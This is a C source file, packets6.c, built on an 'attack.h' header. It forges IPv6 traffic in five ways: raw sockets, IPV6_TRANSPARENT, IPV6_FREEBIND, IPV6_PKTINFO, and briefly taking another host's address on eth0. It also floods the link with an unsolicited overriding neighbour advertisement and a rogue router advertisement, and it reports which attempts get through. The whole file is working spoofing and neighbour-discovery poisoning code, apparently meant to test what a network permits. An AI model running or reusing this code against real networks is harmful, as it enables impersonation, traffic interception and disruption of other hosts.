/* packets6.c - forged packets of IPv6: in another's name, and what neighbours and routers would say. */
#include "attack.h"

#include <arpa/inet.h>
#include <errno.h>
#include <net/if.h>
#include <netinet/icmp6.h>
#include <netinet/in.h>
#include <netinet/ip6.h>
#include <netinet/udp.h>
#include <netpacket/packet.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/socket.h>
#include <unistd.h>

#define EVERYBODY "ff02::1"

struct sockaddr_in6 at6(const char *address, int port)
{
        struct sockaddr_in6 a = { .sin6_family = AF_INET6, .sin6_port = htons((uint16_t) port) };
        char text[64] = "", *link;

        (void) strncpy(text, address, sizeof text - 1);
        link = strchr(text, '%');
        if (link)
                *link++ = '\0';
        (void) inet_pton(AF_INET6, text, &a.sin6_addr);
        a.sin6_scope_id = link ? if_nametoindex(link) : 0;
        return a;
}

static void told(const char *how, ssize_t r)
{
        printf("%s: %s\n", how, r >= 0 ? "sent" : strerrorname_np(errno));
}

static void by_bind(int option, const char *how, struct sockaddr_in6 from, struct sockaddr_in6 to,
                    const char *text)
{
        int one = 1, fd = socket(AF_INET6, SOCK_DGRAM | SOCK_CLOEXEC, 0);

        (void) setsockopt(fd, IPPROTO_IPV6, option, &one, sizeof one);
        if (bind(fd, (void *) &from, sizeof from) < 0)
                told(how, -1);
        else
                told(how, sendto(fd, text, strlen(text), 0, (void *) &to, sizeof to));
        (void) close(fd);
}

/* The source named with the packet. */
static void by_message(struct sockaddr_in6 from, struct sockaddr_in6 to, char *text)
{
        int fd = socket(AF_INET6, SOCK_DGRAM | SOCK_CLOEXEC, 0);
        struct in6_pktinfo info = { .ipi6_addr = from.sin6_addr };
        union {
                struct cmsghdr h;
                char room[CMSG_SPACE(sizeof info)];
        } control = { .h = { 0 } };
        struct iovec iov = { text, strlen(text) };
        struct msghdr m = { .msg_name = &to,
                            .msg_namelen = sizeof to,
                            .msg_iov = &iov,
                            .msg_iovlen = 1,
                            .msg_control = &control,
                            .msg_controllen = sizeof control };

        control.h.cmsg_level = IPPROTO_IPV6;
        control.h.cmsg_type = IPV6_PKTINFO;
        control.h.cmsg_len = CMSG_LEN(sizeof info);
        memcpy(CMSG_DATA(&control.h), &info, sizeof info);
        told("packet information", sendmsg(fd, &m, 0));
        (void) close(fd);
}

/* linux/ipv6.h has it, and does not go together with netinet/in.h. */
struct in6_ifreq_of_linux {
        struct in6_addr ifr6_addr;
        uint32_t ifr6_prefixlen;
        int ifr6_ifindex;
};

/* The address becomes our own. */
static void by_address(struct sockaddr_in6 from, struct sockaddr_in6 to, const char *text)
{
        struct in6_ifreq_of_linux r = { .ifr6_addr = from.sin6_addr,
                                        .ifr6_prefixlen = 128,
                                        .ifr6_ifindex = (int) if_nametoindex("eth0") };
        int fd = socket(AF_INET6, SOCK_DGRAM | SOCK_CLOEXEC, 0);

        if (ioctl(fd, SIOCSIFADDR, &r) < 0) {
                told("second address", -1);
        } else {
                by_bind(IPV6_FREEBIND, "second address", from, to, text);
                (void) ioctl(fd, SIOCDIFADDR, &r);
        }
        (void) close(fd);
}

static uint16_t sum_of(const struct in6_addr *from, const struct in6_addr *to, uint8_t next,
                       const void *payload, size_t n)
{
        const uint8_t *p = payload;
        uint32_t sum = (uint32_t) n + next;

        for (size_t i = 0; i < 16; i += 2)
                sum += (uint32_t) (from->s6_addr[i] << 8 | from->s6_addr[i + 1]) +
                       (uint32_t) (to->s6_addr[i] << 8 | to->s6_addr[i + 1]);
        for (size_t i = 0; i < n; i++)
                sum += i % 2 ? p[i] : (uint32_t) p[i] << 8;
        while (sum >> 16)
                sum = (sum & 0xffff) + (sum >> 16);
        return htons((uint16_t) ~sum);
}

struct packet {
        struct ip6_hdr ip;
        union {
                struct {
                        struct udphdr udp;
                        char text[200];
                };
                struct {
                        struct nd_neighbor_advert na;
                        struct nd_opt_hdr na_opt;
                        uint8_t na_mac[6];
                };
                struct {
                        struct nd_router_advert ra;
                        struct nd_opt_hdr ra_opt;
                        uint8_t ra_mac[6];
                        struct nd_opt_prefix_info prefix;
                };
        };
};

static void head(struct packet *p, uint8_t next, struct in6_addr from, struct in6_addr to, size_t n)
{
        *p = (struct packet){ .ip = { .ip6_src = from, .ip6_dst = to } };
        p->ip.ip6_flow = htonl(6U << 28);
        p->ip.ip6_plen = htons((uint16_t) n);
        p->ip.ip6_nxt = next;
        p->ip.ip6_hlim = 255;
}

static void by_raw(struct sockaddr_in6 from, struct sockaddr_in6 to, const char *text)
{
        int fd = socket(AF_INET6, SOCK_RAW | SOCK_CLOEXEC, IPPROTO_RAW);
        size_t n = sizeof(struct udphdr) + strlen(text);
        struct packet p;

        head(&p, IPPROTO_UDP, from.sin6_addr, to.sin6_addr, n);
        p.udp.source = from.sin6_port;
        p.udp.dest = to.sin6_port;
        p.udp.len = htons((uint16_t) n);
        (void) strncpy(p.text, text, sizeof p.text - 1);
        p.udp.check = sum_of(&p.ip.ip6_src, &p.ip.ip6_dst, IPPROTO_UDP, &p.udp, n);
        to.sin6_port = 0; /* of a raw socket: the protocol */
        told("raw", fd < 0 ? -1 : sendto(fd, &p, sizeof p.ip + n, 0, (void *) &to, sizeof to));
        if (fd >= 0)
                (void) close(fd);
}

/* As it is, onto the link, for all who are there. */
static void on_link(const char *how, struct packet *p, size_t n, uint16_t *sum)
{
        const struct sockaddr_ll ll = { .sll_family = AF_PACKET,
                                        .sll_protocol = htons(0x86dd),
                                        .sll_ifindex = (int) if_nametoindex("eth0"),
                                        .sll_halen = 6,
                                        .sll_addr = { 0x33, 0x33, 0, 0, 0, 1 } };
        int fd = socket(AF_PACKET, SOCK_DGRAM | SOCK_CLOEXEC, htons(0x86dd));

        *sum = sum_of(&p->ip.ip6_src, &p->ip.ip6_dst, IPPROTO_ICMPV6, &p->udp, n);
        told(how, fd < 0 ? -1 : sendto(fd, p, sizeof p->ip + n, 0, (const void *) &ll, sizeof ll));
        if (fd >= 0)
                (void) close(fd);
}

/* "FROM is at our link, whatever you knew": an advertisement that nobody asked for. */
static void by_neighbour(struct sockaddr_in6 from)
{
        static const uint8_t mac[6] = { 2, 0, 0, 0, 0, 9 };
        const size_t n = sizeof(struct nd_neighbor_advert) + 8;
        struct packet p;

        head(&p, IPPROTO_ICMPV6, from.sin6_addr, at6(EVERYBODY, 0).sin6_addr, n);
        p.na.nd_na_type = ND_NEIGHBOR_ADVERT;
        p.na.nd_na_flags_reserved = ND_NA_FLAG_OVERRIDE | ND_NA_FLAG_ROUTER;
        p.na.nd_na_target = from.sin6_addr;
        p.na_opt = (struct nd_opt_hdr){ ND_OPT_TARGET_LINKADDR, 1 };
        memcpy(p.na_mac, mac, sizeof mac);
        on_link("neighbour", &p, n, &p.na.nd_na_cksum);
}

/* "I am your router, and this network is here." */
static void by_router(struct sockaddr_in6 from)
{
        static const uint8_t mac[6] = { 2, 0, 0, 0, 0, 9 };
        const size_t n = sizeof(struct nd_router_advert) + 8 + sizeof(struct nd_opt_prefix_info);
        struct packet p;

        head(&p, IPPROTO_ICMPV6, at6("fe80::9", 0).sin6_addr, at6(EVERYBODY, 0).sin6_addr, n);
        p.ra.nd_ra_type = ND_ROUTER_ADVERT;
        p.ra.nd_ra_curhoplimit = 64;
        p.ra.nd_ra_router_lifetime = htons(1800);
        p.ra_opt = (struct nd_opt_hdr){ ND_OPT_SOURCE_LINKADDR, 1 };
        memcpy(p.ra_mac, mac, sizeof mac);
        p.prefix.nd_opt_pi_type = ND_OPT_PREFIX_INFORMATION;
        p.prefix.nd_opt_pi_len = 4;
        p.prefix.nd_opt_pi_prefix_len = 64;
        p.prefix.nd_opt_pi_flags_reserved = ND_OPT_PI_FLAG_ONLINK | ND_OPT_PI_FLAG_AUTO;
        p.prefix.nd_opt_pi_valid_time = p.prefix.nd_opt_pi_preferred_time = htonl(3600);
        memcpy(&p.prefix.nd_opt_pi_prefix, &from.sin6_addr, 8);
        on_link("router", &p, n, &p.ra.nd_ra_cksum);
}

int forge6(char **argv)
{
        struct sockaddr_in6 from = at6(argv[0], 5353), to = at6(argv[1], atoi(argv[2]));

        by_raw(from, to, argv[3]);
        by_bind(IPV6_TRANSPARENT, "transparent", from, to, argv[3]);
        by_bind(IPV6_FREEBIND, "free bind", from, to, argv[3]);
        by_message(from, to, argv[3]);
        by_address(from, to, argv[3]);
        by_neighbour(from);
        by_router(from);
        puts("done");
        return 0;
}
